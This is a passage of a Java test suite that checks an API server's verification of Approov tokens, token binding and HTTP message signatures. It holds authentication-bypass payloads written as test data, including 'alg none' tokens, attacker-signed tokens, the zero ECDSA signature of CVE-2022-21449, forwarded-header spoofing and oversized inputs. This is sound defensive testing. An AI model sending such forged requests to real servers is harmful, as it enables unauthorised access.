        add(PROTECTED + "?token=" + valid + "&approov_token=" + valid, "GET", REFUSED, Target.DEFAULT,
                "token in other query parameters");
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "token as Authorization: Bearer", "Authorization", "Bearer " + valid);
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "token as bare Authorization", "Authorization", valid);
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "token in a cookie", "Cookie", "Approov-Token=" + valid);
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "token in X-Approov-Token", "X-Approov-Token", valid);
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "token in Approov_Token (underscore)", "Approov_Token", valid);
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "token in Approov-Token2", "Approov-Token2", valid);
        add(PROTECTED, "HEAD", REFUSED, Target.DEFAULT, "HEAD without a token");
        add(PROTECTED, "DELETE", Set.of(401, 405), Target.DEFAULT, "DELETE without a token");
    }

    private void binding() {
        group = "binding (@ApproovBound)";
        String bound = sign(HS256_HEADER, "{" + exp + ",\"pay\":\"" + pay(BEARER) + "\"}", SECRET);
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "no Authorization", "Approov-Token", bound);
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "empty Authorization", "Approov-Token", bound, "Authorization", "");
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "two Authorization lines, both the bound value", "Approov-Token", bound,
                "Authorization", BEARER, "Authorization", BEARER);
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "Authorization split over two lines", "Approov-Token", bound,
                "Authorization", "Bearer", "Authorization", "0123456789abcdef");
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "another Authorization value", "Approov-Token", bound, "Authorization",
                "Bearer fedcba9876543210");
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "Authorization without its scheme", "Approov-Token", bound, "Authorization",
                "0123456789abcdef");
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "scheme in lower case", "Approov-Token", bound, "Authorization",
                "bearer 0123456789abcdef");
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "two spaces after the scheme", "Approov-Token", bound, "Authorization",
                "Bearer  0123456789abcdef");
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "the bound value in a cookie instead", "Approov-Token", bound, "Cookie",
                "Authorization=" + BEARER.replace(' ', '+'));
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "the bound value in Proxy-Authorization instead", "Approov-Token", bound,
                "Proxy-Authorization", BEARER);
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "no token, only the Authorization", "Authorization", BEARER);
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "the bound token twice", "Approov-Token", bound, "Approov-Token", bound,
                "Authorization", BEARER);
        Map<String, String> pays = new LinkedHashMap<>();
        pays.put("pay missing", null);
        pays.put("pay empty", "\"\"");
        pays.put("pay a number", "1");
        pays.put("pay null", "null");
        pays.put("pay an array holding the right value", "[\"" + pay(BEARER) + "\"]");
        pays.put("pay an object", "{\"v\":\"" + pay(BEARER) + "\"}");
        pays.put("pay in base64url without padding", "\"" + pay(BEARER).replace('+', '-').replace('/', '_').replace("=", "") + "\"");
        pays.put("pay in hex", "\"" + HexFormat.of().formatHex(digest("SHA-256", BEARER)) + "\"");
        pays.put("pay the raw value, unhashed", "\"" + BEARER + "\"");
        pays.put("pay over the value without its scheme", "\"" + pay("0123456789abcdef") + "\"");
        pays.put("pay with a trailing newline", "\"" + pay(BEARER) + "\\n\"");
        pays.put("pay upper-cased", "\"" + pay(BEARER).toUpperCase(java.util.Locale.ROOT) + "\"");
        pays.put("pay of SHA-1", "\"" + Base64.getEncoder().encodeToString(digest("SHA-1", BEARER)) + "\"");
        pays.put("pay of SHA-512", "\"" + Base64.getEncoder().encodeToString(digest("SHA-512", BEARER)) + "\"");
        pays.put("pay of the UTF-16 bytes", "\"" + Base64.getEncoder().encodeToString(sha256(BEARER.getBytes(StandardCharsets.UTF_16BE)))
                + "\"");
        for (Map.Entry<String, String> entry : pays.entrySet()) {
            String token = sign(HS256_HEADER, "{" + exp + (entry.getValue() == null ? "" : ",\"pay\":" + entry.getValue()) + "}", SECRET);
            add(BOUND, "GET", REFUSED, Target.DEFAULT, entry.getKey(), "Approov-Token", token, "Authorization", BEARER);
        }
        String rightPay = ",\"pay\":\"" + pay(BEARER) + "\"";
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "pay twice, both right", "Approov-Token", sign(HS256_HEADER, "{" + exp + rightPay
                + rightPay + "}", SECRET), "Authorization", BEARER);
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "pay right, token expired", "Approov-Token", sign(HS256_HEADER, "{\"exp\":" + (now - 1)
                + rightPay + "}", SECRET), "Authorization", BEARER);
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "pay right, token signed by the attacker", "Approov-Token", sign(HS256_HEADER, "{" + exp
                + rightPay + "}", ATTACKER_SECRET), "Authorization", BEARER);
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "pay right, alg none", "Approov-Token", b64url("{\"alg\":\"none\"}") + "."
                + b64url("{" + exp + rightPay + "}") + ".", "Authorization", BEARER);
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "pay right, token in Authorization and no token header", "Authorization", bound);
    }

    private void size() {
        group = "size";
        add(PROTECTED, "GET", REFUSED_OR_TOO_LARGE, Target.DEFAULT, "a 100 KB token header", "Approov-Token", "A".repeat(100_000));
        add(PROTECTED, "GET", REFUSED_OR_TOO_LARGE, Target.DEFAULT, "a 100 KB token of genuine shape", "Approov-Token",
                parts[0] + "." + "A".repeat(100_000) + "." + parts[2]);
        add(PROTECTED, "GET", REFUSED_OR_TOO_LARGE, Target.DEFAULT, "a 9000-character token (over the verifier's 8192)",
                "Approov-Token", sign(HS256_HEADER, "{" + exp + ",\"x\":\"" + "a".repeat(6600) + "\"}", SECRET));
        attack("a 7000-character genuinely signed token with junk claims", sign(HS256_HEADER, "{" + exp + ",\"x\":\"" + "a".repeat(5000)
                + "\",\"exp\":1}", SECRET));
        attack("exp of 5000 digits with a fraction", sign(HS256_HEADER, "{\"exp\":1." + "0".repeat(5000) + "1}", SECRET));
        attack("exp 1e+999999999", sign(HS256_HEADER, "{\"exp\":1e+999999999}", SECRET));
        StringBuilder many = new StringBuilder("{\"exp\":\"soon\"");
        for (int i = 0; i < 400; i++) {
            many.append(",\"c").append(i).append("\":").append(i);
        }
        attack("400 claims with exp a string", sign(HS256_HEADER, many.append('}').toString(), SECRET));
        StringBuilder params = new StringBuilder("{\"alg\":\"HS256\"");
        for (int i = 0; i < 300; i++) {
            params.append(",\"p").append(i).append("\":").append(i);
        }
        attack("300 header parameters, signed by the attacker", sign(params.append('}').toString(), claims, ATTACKER_SECRET));
        String bound = sign(HS256_HEADER, "{" + exp + ",\"pay\":\"" + pay(BEARER) + "\"}", SECRET);
        add(BOUND, "GET", REFUSED_OR_TOO_LARGE, Target.DEFAULT, "a 100 KB Authorization", "Approov-Token", bound, "Authorization",
                "Bearer " + "a".repeat(100_000));
        add(BOUND, "GET", REFUSED, Target.DEFAULT, "a 6 KB Authorization", "Approov-Token", bound, "Authorization",
                "Bearer " + "a".repeat(6_000));
        add(PROTECTED, "GET", REFUSED_OR_TOO_LARGE, Target.DEFAULT, "a garbage token beside 100 KB of other headers", repeat("X-Pad",
                "p".repeat(1_000), 100, "Approov-Token", "garbage"));
    }

    private void routing() {
        group = "routing";
        add(PROTECTED + "/", "GET", REFUSED_OR_NOT_FOUND, Target.DEFAULT, "trailing slash, no token");
        add("/methods/%70rotected", "GET", REFUSED_OR_NOT_FOUND, Target.DEFAULT, "percent-encoded path, no token");
        add(PROTECTED + ";jsessionid=x", "GET", REFUSED_OR_NOT_FOUND, Target.DEFAULT, "matrix parameter, no token");
        add("/" + PROTECTED, "GET", REFUSED_OR_NOT_FOUND, Target.DEFAULT, "double slash, no token");
        add("/METHODS/protected", "GET", REFUSED_OR_NOT_FOUND, Target.DEFAULT, "path in upper case, no token");
        add(PROTECTED + "?x=" + valid, "GET", REFUSED_OR_NOT_FOUND, Target.DEFAULT, "genuine token in an unrelated query parameter");
        add(BOUND + "/", "GET", REFUSED_OR_NOT_FOUND, Target.DEFAULT, "bound endpoint with a trailing slash, token but no binding",
                "Approov-Token", valid);
    }

    private void messageSigning() {
        group = "message signing (@ApproovSigned)";
        String token = ipkToken(DEVICE.getPublic(), "");
        MessageSignature genuine = sdk("GET", SIGNED, token).sign();
        String input = genuine.signatureInput();
        String params = ";alg=\"ecdsa-p256-sha256\";created=" + now + ";expires=" + (now + 3600);
        String inner = input.substring("install=".length(), input.indexOf(";alg="));

        // The fields (rule M4)
        signed("an ipk token and no signature fields", "GET", SIGNED, "Approov-Token", token);
        signed("Signature-Input without Signature", "GET", SIGNED, "Approov-Token", token, "Signature-Input", input);
        signed("Signature without Signature-Input", "GET", SIGNED, "Approov-Token", token, "Signature", genuine.signature());
        signed("empty Signature-Input", "GET", SIGNED, "Approov-Token", token, "Signature-Input", "", "Signature",
                genuine.signature());
        signed("empty Signature", "GET", SIGNED, "Approov-Token", token, "Signature-Input", input, "Signature", "");
        signed("Signature-Input twice: the genuine line, then one covering only @method and the token", "GET", SIGNED,
                "Approov-Token", token, "Signature-Input", input, "Signature-Input",
                "install=(\"@method\" \"approov-token\")" + params, "Signature", genuine.signature());
        signed("Signature twice: the genuine line, then another key's", "GET", SIGNED, "Approov-Token", token,
                "Signature-Input", input, "Signature", genuine.signature(), "Signature",
                sdk("GET", SIGNED, token, ATTACKER_EC.getPrivate()).sign().signature());
        signed("other labels only (sig1)", "GET", SIGNED, "Approov-Token", token, "Signature-Input",
                input.replace("install=", "sig1="), "Signature", genuine.signature().replace("install=", "sig1="));
        signed("the genuine signature under another label, garbage under install", "GET", SIGNED, "Approov-Token", token,
                "Signature-Input", input, "Signature", genuine.signature().replace("install=", "sig1=") + ", install=:"
                        + Base64.getEncoder().encodeToString(new byte[64]) + ":");
        signed("Signature-Input a bare inner list, not a dictionary", "GET", SIGNED, "Approov-Token", token,
                "Signature-Input", input.substring("install=".length()), "Signature", genuine.signature());
        signed("the install input an item, not an inner list", "GET", SIGNED, "Approov-Token", token, "Signature-Input",
                "install=\"@method\"" + params, "Signature", genuine.signature());
        signed("components as tokens, not strings", "GET", SIGNED, "Approov-Token", token, "Signature-Input",
                input.replace("\"", ""), "Signature", genuine.signature());

        // The algorithm (M5), each otherwise genuinely signed over its own parameters
        String times = ";created=" + now + ";expires=" + (now + 3600);
        for (String alg : List.of(";alg=\"hmac-sha256\"", ";alg=\"rsa-pss-sha512\"", ";alg=\"ed25519\"",
                ";alg=\"ecdsa-p384-sha384\"", ";alg=\"ECDSA-P256-SHA256\"", ";alg=ecdsa-p256-sha256", ";alg=\"\"",
                "", ";alg=\"ecdsa-p256-sha256\";alg=\"hmac-sha256\"")) {
            signedGet((alg.isEmpty() ? "alg missing" : alg.substring(1)) + ", signed with the installation key", token,
                    sdk("GET", SIGNED, token).parameters(alg + times).sign());
        }

        // Time (M5, M6): the server allows 60 s of clock tolerance and signatures up to an hour old
        signedGet("created an hour in the future", token, sdk("GET", SIGNED, token).created(now + 3600).expires(now + 3615).sign());
        signedGet("expired 15 minutes ago", token, sdk("GET", SIGNED, token).created(now - 1000).expires(now - 900).sign());
        signedGet("created two hours ago, not yet expired (too old)", token, sdk("GET", SIGNED, token).created(now - 7200)
                .expires(now + 3600).sign());
        signedGet("expires missing", token, sdk("GET", SIGNED, token).parameters(";alg=\"ecdsa-p256-sha256\";created=" + now).sign());
        signedGet("expires before created", token, sdk("GET", SIGNED, token).created(now).expires(now - 1).sign());
        signedGet("created a string", token, sdk("GET", SIGNED, token).parameters(";alg=\"ecdsa-p256-sha256\";created=\"" + now
                + "\";expires=" + (now + 3600)).sign());
        signedGet("created a decimal", token, sdk("GET", SIGNED, token).parameters(";alg=\"ecdsa-p256-sha256\";created=" + now
                + ".5;expires=" + (now + 3600)).sign());
        signedGet("created missing", token, sdk("GET", SIGNED, token).parameters(";alg=\"ecdsa-p256-sha256\";expires="
                + (now + 3600)).sign());

        // The covered components (M5, M7, M8)
        signedGet("@method covered twice", token, sdk("GET", SIGNED, token).cover("@method", "GET").sign());
        signedGet("@method not covered", token, signer().cover("@target-uri", SIGNED_ORIGIN + SIGNED)
                .cover("approov-token", token).sign());
        signedGet("the token not covered", token, signer().cover("@method", "GET").cover("@target-uri", SIGNED_ORIGIN + SIGNED).sign());
        signedGet("no target covered (@authority only)", token, signer().cover("@method", "GET")
                .cover("@authority", "api.example.com").cover("approov-token", token).sign());
        signedGet("an unknown derived component, @status", token, sdk("GET", SIGNED, token).cover("@status", "200").sign());
        signedGet("@signature-params covered as a component", token, sdk("GET", SIGNED, token)
                .cover("@signature-params", inner + params).sign());
        signedGet("@method in upper case (@Method)", token, signer().cover("@Method", "GET")
                .cover("@target-uri", SIGNED_ORIGIN + SIGNED).cover("approov-token", token).sign());
        signedGet("the token header name in upper case", token, signer().cover("@method", "GET")
                .cover("@target-uri", SIGNED_ORIGIN + SIGNED).cover("Approov-Token", token).sign());
        signedGet("the token covered with the sf parameter", token, signer().cover("@method", "GET")
                .cover("@target-uri", SIGNED_ORIGIN + SIGNED).coverIdentifier("\"approov-token\";sf", token).sign());
        signedGet("@method with the req parameter", token, signer().coverIdentifier("\"@method\";req", "GET")
                .cover("@target-uri", SIGNED_ORIGIN + SIGNED).cover("approov-token", token).sign());
        signedGet("@query-param without a name", token, sdk("GET", SIGNED, token).coverIdentifier("\"@query-param\"", "").sign());
        signedGet("a covered header that is not sent", token, sdk("GET", SIGNED, token).cover("x-device-info", "model=a").sign());
        String twice = SIGNED + "?a=1&a=2";
        signed("@query-param of a name sent twice", "GET", twice, headers(token, sdk("GET", twice, token)
                .coverIdentifier("\"@query-param\";name=\"a\"", "1").sign()));

        // A signature of another request (M8, M9, M11)
        String body = "{\"shape\":\"circle\"}";
        signed("signed as a POST, sent as a GET", "GET", SIGNED, headers(token, sdk("POST", SIGNED, token).sign()));
        signed("the token and its signature lifted onto another path", "GET", SIGNED + "/items/1", headers(token, genuine));
        signed("signed with ?a=1, sent with ?a=2", "GET", SIGNED + "?a=2", headers(token, sdk("GET", SIGNED + "?a=1", token).sign()));
        signed("signed without a query, sent with ?admin=true", "GET", SIGNED + "?admin=true", headers(token, genuine));
        signed("signed for another host", "GET", SIGNED, headers(token, signer().cover("@method", "GET")
                .cover("@target-uri", "https://evil.example.com" + SIGNED).cover("approov-token", token).sign()));
        signed("signed for http://", "GET", SIGNED, headers(token, signer().cover("@method", "GET")
                .cover("@target-uri", "http://api.example.com" + SIGNED).cover("approov-token", token).sign()));
        signed("signed for another port", "GET", SIGNED, headers(token, signer().cover("@method", "GET")
                .cover("@target-uri", "https://api.example.com:8443" + SIGNED).cover("approov-token", token).sign()));
        signed("a signature of the same device over another of its tokens", "GET", SIGNED,
                headers(token, sdk("GET", SIGNED, ipkToken(DEVICE.getPublic(), ",\"did\":\"another\"")).sign()));
        signedPost("the body changed under a covered Content-Digest", "{\"shape\":\"square\"}", token,
                MessageSignature.contentDigest(body.getBytes(StandardCharsets.UTF_8)),
                sdk("POST", SIGNED, token).cover("content-digest", MessageSignature.contentDigest(body.getBytes(StandardCharsets.UTF_8))));

        // The signature's bytes (M10, M11)
        byte[] bytes = genuine.bytes();
        signedBytes("r = s = 0 (CVE-2022-21449)", token, input, "install=:" + Base64.getEncoder().encodeToString(new byte[64]) + ":");
        byte[] nn = concat(unsigned32(P256_ORDER), unsigned32(P256_ORDER));
        signedBytes("r = s = n", token, input, "install=:" + Base64.getEncoder().encodeToString(nn) + ":");
        signedBytes("r and s swapped", token, input, "install=:" + Base64.getEncoder().encodeToString(
                concat(Arrays.copyOfRange(bytes, 32, 64), Arrays.copyOfRange(bytes, 0, 32))) + ":");
        signedBytes("the signature DER-encoded", token, input, "install=:" + Base64.getEncoder().encodeToString(der(bytes)) + ":");
        MessageSignature slashy = findSignature(s -> s.signature().contains("+") || s.signature().contains("/"), token);
        signedBytes("the signature in the base64url alphabet", token, slashy.signatureInput(),
                slashy.signature().replace('+', '-').replace('/', '_'));
        String b64 = Base64.getEncoder().encodeToString(bytes);
        signedBytes("the signature with non-zero trailing bits", token, input, "install=:" + StartupSafetyTest.withTrailingBits(b64) + ":");
        signedBytes("the signature without its padding", token, input, "install=:" + b64.replace("=", "") + ":");
        signedBytes("the Android string form without its padding", token, input, "install=\"" + b64.replace("=", "") + "\"");
        signedBytes("a 63-byte signature", token, input, "install=:" + Base64.getEncoder().encodeToString(Arrays.copyOf(bytes, 63)) + ":");
        signedBytes("a 65-byte signature", token, input, "install=:" + Base64.getEncoder().encodeToString(Arrays.copyOf(bytes, 65)) + ":");
        signed("signed by another key than the ipk's", "GET", SIGNED, headers(token, sdk("GET", SIGNED, token, ATTACKER_EC.getPrivate())
                .sign()));

        // The ipk (M2, M3), each request signed with the installation key over its own token
        String der = ApproovTokens.ipk(DEVICE.getPublic());
        byte[] offCurve = DEVICE.getPublic().getEncoded();
        offCurve[offCurve.length - 1] ^= 1;
        Map<String, String> ipks = new LinkedHashMap<>();
        ipks.put("ipk not base64", "\"not base64!\"");
        ipks.put("ipk a point off the curve", "\"" + Base64.getEncoder().encodeToString(offCurve) + "\"");
        ipks.put("ipk a P-384 key", "\"" + ApproovTokens.ipk(TestKeys.ec("secp384r1").getPublic()) + "\"");
        ipks.put("ipk an RSA key", "\"" + ApproovTokens.ipk(RSA.getPublic()) + "\"");
        ipks.put("ipk a number", "42");
        ipks.put("ipk without its padding", "\"" + der.replace("=", "") + "\"");
        ipks.put("ipk in base64url", "\"" + Base64.getUrlEncoder().encodeToString(DEVICE.getPublic().getEncoded()) + "\"");
        ipks.put("ipk another installation's key, signed by this one", "\"" + ApproovTokens.ipk(ATTACKER_EC.getPublic()) + "\"");
        for (Map.Entry<String, String> ipk : ipks.entrySet()) {
            String other = sign(HS256_HEADER, "{" + exp + ",\"ipk\":" + ipk.getValue() + "}", SECRET);
            signed(ipk.getKey(), "GET", SIGNED, headers(other, sdk("GET", SIGNED, other).sign()));
        }
        String expired = sign(HS256_HEADER, "{\"exp\":" + (now - 1) + ",\"ipk\":\"" + der + "\"}", SECRET);
        signed("a genuine signature on an expired ipk token", "GET", SIGNED, headers(expired, sdk("GET", SIGNED, expired).sign()));
        signed("the ipk token twice", "GET", SIGNED, "Approov-Token", token, "Approov-Token", token, "Signature-Input", input,
                "Signature", genuine.signature());

        // The body (M12): the server requires a covered Content-Digest on any body
        byte[] bodyBytes = body.getBytes(StandardCharsets.UTF_8);
        String digest = MessageSignature.contentDigest(bodyBytes);
        signedPost("a body and no Content-Digest", body, token, null, sdk("POST", SIGNED, token));
        signedPost("a right Content-Digest, not covered", body, token, digest, sdk("POST", SIGNED, token));
        String md5 = "md5=:" + Base64.getEncoder().encodeToString(digest("MD5", body)) + ":";
        signedPost("a covered Content-Digest of an unknown algorithm only (md5)", body, token, md5,
                sdk("POST", SIGNED, token).cover("content-digest", md5));
        String wrong512 = digest + ", sha-512=:" + Base64.getEncoder().encodeToString(new byte[64]) + ":";
        signedPost("a covered Content-Digest: sha-256 right, sha-512 wrong", body, token, wrong512,
                sdk("POST", SIGNED, token).cover("content-digest", wrong512));
        signedPost("a covered Content-Digest that is no byte sequence", body, token, "sha-256=\"x\"",
                sdk("POST", SIGNED, token).cover("content-digest", "sha-256=\"x\""));
        for (int size : List.of(MAX_BODY_BYTES + 1, 100_000)) {
            String big = "x".repeat(size);
            String bigDigest = MessageSignature.contentDigest(big.getBytes(StandardCharsets.UTF_8));
            attacks.add(new Request(group, "a genuinely signed and digested body of " + size + " bytes, over the limit",
                    Target.SIGNED, "POST", SIGNED, List.of(headers(token, sdk("POST", SIGNED, token).cover("content-digest", bigDigest)
                            .sign(), "Content-Digest", bigDigest)), TOO_LARGE, big));
        }

        // Where the request went (M9): forwarded headers are never trusted, the raw path and query are signed
        MessageSignature forEvil = signer().cover("@method", "GET").cover("@target-uri", "https://evil.example.com" + SIGNED)
                .cover("approov-token", token).sign();
        signed("X-Forwarded-Host of the host signed for", "GET", SIGNED, headers(token, forEvil, "X-Forwarded-Host",
                "evil.example.com"));
        signed("Forwarded: host and proto of the origin signed for", "GET", SIGNED, headers(token, signer().cover("@method", "GET")
                .cover("@target-uri", "http://evil.example.com" + SIGNED).cover("approov-token", token).sign(), "Forwarded",
                "host=evil.example.com;proto=http"));
        signed("X-Forwarded-Proto and X-Forwarded-Port of the origin signed for", "GET", SIGNED, headers(token, signer()
                .cover("@method", "GET").cover("@target-uri", "http://api.example.com:8080" + SIGNED).cover("approov-token", token)
                .sign(), "X-Forwarded-Proto", "http", "X-Forwarded-Port", "8080"));
        signed("signed %41 in the path, sent A", "GET", SIGNED + "/items/A", headers(token, sdk("GET", SIGNED + "/items/%41", token).sign()));
        signed("signed A in the path, sent %41", "GET", SIGNED + "/items/%41", headers(token, sdk("GET", SIGNED + "/items/A", token).sign()));
        signed("signed %20 in the path, sent +", "GET", SIGNED + "/items/a+b", headers(token, sdk("GET", SIGNED + "/items/a%20b", token).sign()));
        signed("signed %2f in the query, sent %2F", "GET", SIGNED + "?q=a%2Fb", headers(token, sdk("GET", SIGNED + "?q=a%2fb", token).sign()));
        signed("signed + in the query, sent %20", "GET", SIGNED + "?q=a%20b", headers(token, sdk("GET", SIGNED + "?q=a+b", token).sign()));

        // Composed with @ApproovBound: token, then binding, then signature
        String bound = ipkToken(DEVICE.getPublic(), ",\"pay\":\"" + pay(BEARER) + "\"");
        MessageSignature all = sdk("GET", SIGNED_ALL, bound).sign();
        signed("bound and signed: no Authorization", "GET", SIGNED_ALL, headers(bound, all));
        signed("bound and signed: another Authorization", "GET", SIGNED_ALL, headers(bound, all, "Authorization", "Bearer other"));
        signed("bound and signed: the right Authorization, no signature", "GET", SIGNED_ALL, "Approov-Token", bound,
                "Authorization", BEARER);
        signed("bound and signed: the right Authorization, the signature of /signed", "GET", SIGNED_ALL,
                headers(bound, sdk("GET", SIGNED, bound).sign(), "Authorization", BEARER));
        signed("bound and signed: a covered Authorization replaced by the bound one", "GET", SIGNED_ALL,
                headers(bound, sdk("GET", SIGNED_ALL, bound).cover("authorization", "Bearer other").sign(), "Authorization", BEARER));
    }

    private void legitimateSignedVariants() {
        String token = ipkToken(DEVICE.getPublic(), "");
        String body = "{\"shape\":\"circle\"}";
        byte[] bodyBytes = body.getBytes(StandardCharsets.UTF_8);
        String digest = MessageSignature.contentDigest(bodyBytes);
        MessageSignature genuine = sdk("GET", SIGNED, token).sign();
        signedLegit("signed: as the SDK signs a GET (byte sequence)", "GET", SIGNED, null, headers(token, genuine));
        signedLegit("signed: the Android sf-String form", "GET", SIGNED, null, "Approov-Token", token, "Signature-Input",
                genuine.signatureInput(), "Signature", genuine.signatureAsString());
        signedLegit("signed: a POST with covered Content-Type and sha-256 Content-Digest", "POST", SIGNED, body,
                headers(token, sdk("POST", SIGNED, token).cover("content-type", "application/json").cover("content-digest", digest)
                        .sign(), "Content-Type", "application/json", "Content-Digest", digest));
        String sha512 = "sha-512=:" + Base64.getEncoder().encodeToString(sha512(bodyBytes)) + ":";
        signedLegit("signed: a POST with a covered sha-512 Content-Digest", "POST", SIGNED, body,
                headers(token, sdk("POST", SIGNED, token).cover("content-digest", sha512).sign(), "Content-Digest", sha512));
        String limit = "y".repeat(MAX_BODY_BYTES);
        String limitDigest = MessageSignature.contentDigest(limit.getBytes(StandardCharsets.UTF_8));
        signedLegit("signed: a body of exactly the limit", "POST", SIGNED, limit, headers(token, sdk("POST", SIGNED, token)
                .cover("content-digest", limitDigest).sign(), "Content-Digest", limitDigest));
        String query = SIGNED + "?q=a%20b&r=%C3%A9";
        signedLegit("signed: @path, @query, @authority and @scheme instead of @target-uri", "GET", query, null,
                headers(token, signer().cover("@method", "GET").cover("@path", SIGNED).cover("@query", "?q=a%20b&r=%C3%A9")
                        .cover("@authority", "api.example.com").cover("@scheme", "https").cover("approov-token", token).sign()));
        signedLegit("signed: @request-target and @query-param", "GET", query, null, headers(token, signer().cover("@method", "GET")
                .cover("@request-target", query).coverIdentifier("\"@query-param\";name=\"r\"", "%C3%A9")
                .cover("approov-token", token).sign()));
        signedLegit("signed: a covered header sent as two lines, joined", "GET", SIGNED, null, headers(token,
                sdk("GET", SIGNED, token).cover("x-device-info", "model=a, os=b").sign(), "X-Device-Info", "model=a",
                "X-Device-Info", "os=b"));
        MessageSignature other = sdk("GET", SIGNED, token).sign();
        signedLegit("signed: both fields split over two lines, with another label", "GET", SIGNED, null, "Approov-Token", token,
                "Signature-Input", other.signatureInput().replace("install=", "sig1="), "Signature-Input", genuine.signatureInput(),
                "Signature", "sig1=:" + Base64.getEncoder().encodeToString(new byte[64]) + ":", "Signature", genuine.signature());
        signedLegit("signed: lower-case header names", "GET", SIGNED, null, "approov-token", token, "signature-input",
                genuine.signatureInput(), "signature", genuine.signature());
        String encoded = SIGNED + "/items/a%20b?q=%41";
        signedLegit("signed: a percent-encoded path and query, signed as sent", "GET", encoded, null,
                headers(token, sdk("GET", encoded, token).sign()));
        signedLegit("signed: extra parameters (nonce, tag) in the base", "GET", SIGNED, null, headers(token, sdk("GET", SIGNED, token)
                .parameters(";alg=\"ecdsa-p256-sha256\";created=" + now + ";expires=" + (now + 3600) + ";nonce=\"n-1\";tag=\"approov\"")
                .sign()));
        signedLegit("signed endpoint: a token without ipk passes as token-only", "GET", SIGNED, null, "Approov-Token", valid);
        String bound = ipkToken(DEVICE.getPublic(), ",\"pay\":\"" + pay(BEARER) + "\"");
        signedLegit("bound and signed: the right Authorization and signature", "GET", SIGNED_ALL, null,
                headers(bound, sdk("GET", SIGNED_ALL, bound).cover("authorization", BEARER).sign(), "Authorization", BEARER));
    }

    // ---- the legitimate variants: each must get 200 ----

    private void legitimateVariants() {
        group = "legitimate";
        legit(Target.DEFAULT, PROTECTED, "GET", "a genuine token", "Approov-Token", valid);
        legit(Target.DEFAULT, PROTECTED, "GET", "the same token again (from the cache)", "Approov-Token", valid);
        legit(Target.DEFAULT, PROTECTED, "GET", "fractional exp", "Approov-Token", sign(HS256_HEADER, "{\"exp\":" + (now + 60) + ".25}",
                SECRET));
        legit(Target.DEFAULT, PROTECTED, "GET", "exp in exponent notation", "Approov-Token", sign(HS256_HEADER, "{\"exp\":" + (now + 3600)
                + "0e-1}", SECRET));
        legit(Target.DEFAULT, PROTECTED, "GET", "Approov's extra claims and custom ones", "Approov-Token", sign(HS256_HEADER, "{" + exp
                + ",\"ip\":\"1.2.3.4\",\"did\":\"ExampleApproovTokenDID==\",\"arc\":\"RQQ\",\"iss\":\"approov\",\"sub\":\"x\","
                + "\"custom\":{\"a\":[1,2.5,null,\"\\u00e9\"]}}", SECRET));
        legit(Target.DEFAULT, PROTECTED, "GET", "a kid the server does not know", "Approov-Token", sign("{\"alg\":\"HS256\",\"kid\":\"k7\"}",
                claims, SECRET));
        legit(Target.DEFAULT, PROTECTED, "GET", "no typ", "Approov-Token", sign("{\"alg\":\"HS256\"}", claims, SECRET));
        legit(Target.DEFAULT, PROTECTED, "GET", "another typ", "Approov-Token", sign("{\"typ\":\"at+jwt\",\"alg\":\"HS256\"}", claims,
                SECRET));
        legit(Target.DEFAULT, PROTECTED, "GET", "aud string without a configured audience", "Approov-Token", sign(HS256_HEADER, "{" + exp
                + ",\"aud\":\"approov.io\"}", SECRET));
        legit(Target.DEFAULT, PROTECTED, "GET", "aud array without a configured audience", "Approov-Token", sign(HS256_HEADER, "{" + exp
                + ",\"aud\":[\"a\",\"b\"]}", SECRET));
        legit(Target.DEFAULT, PROTECTED, "GET", "lower-case header name", "approov-token", valid);
        legit(Target.DEFAULT, PROTECTED, "GET", "upper-case header name", "APPROOV-TOKEN", valid);
        legit(Target.DEFAULT, PROTECTED, "GET", "iat in the future, nbf in the past", "Approov-Token", sign(HS256_HEADER, "{" + exp
                + ",\"iat\":" + (now + 600) + ",\"nbf\":" + (now - 600) + "}", SECRET));
        legit(Target.DEFAULT, PROTECTED, "GET", "a jku that is ignored, genuinely signed", "Approov-Token",
                sign("{\"alg\":\"HS256\",\"jku\":\"https://attacker.example/jwks.json\"}", claims, SECRET));
        legit(Target.DEFAULT, PROTECTED, "GET", "JSON with spaces and escapes", "Approov-Token", sign("{ \"alg\" : \"HS\\u0032\\u0035\\u0036\" }",
                "{ " + exp + " , \"s\" : \"a\\/b\" }", SECRET));
        legit(Target.DEFAULT, PROTECTED, "HEAD", "HEAD with a genuine token", "Approov-Token", valid);
        String bound = sign(HS256_HEADER, "{" + exp + ",\"pay\":\"" + pay(BEARER) + "\"}", SECRET);
        legit(Target.DEFAULT, BOUND, "GET", "bound token with its Authorization", "Approov-Token", bound, "Authorization", BEARER);
        legit(Target.DEFAULT, BOUND, "GET", "bound token, lower-case header names", "approov-token", bound, "authorization", BEARER);
        String audClaims = "{" + exp + ",\"aud\":\"" + AUDIENCE + "\"}";
        legit(Target.HARDENED, PROTECTED, "GET", "key set: HS256 with its kid and the audience", "Approov-Token",
                sign("{\"alg\":\"HS256\",\"kid\":\"" + HS_KID + "\"}", audClaims, SECRET));
        legit(Target.HARDENED, PROTECTED, "GET", "key set: HS256 without a kid", "Approov-Token", sign(HS256_HEADER, audClaims, SECRET));
        legit(Target.HARDENED, PROTECTED, "GET", "key set: audience in an array", "Approov-Token", sign(HS256_HEADER, "{" + exp
                + ",\"aud\":[\"other\",\"" + AUDIENCE + "\"]}", SECRET));
        legit(Target.HARDENED, PROTECTED, "GET", "key set: RS256", "Approov-Token", asymmetric("{\"alg\":\"RS256\",\"kid\":\"" + RSA_KID
                + "\"}", audClaims, RSA.getPrivate(), "RS256"));
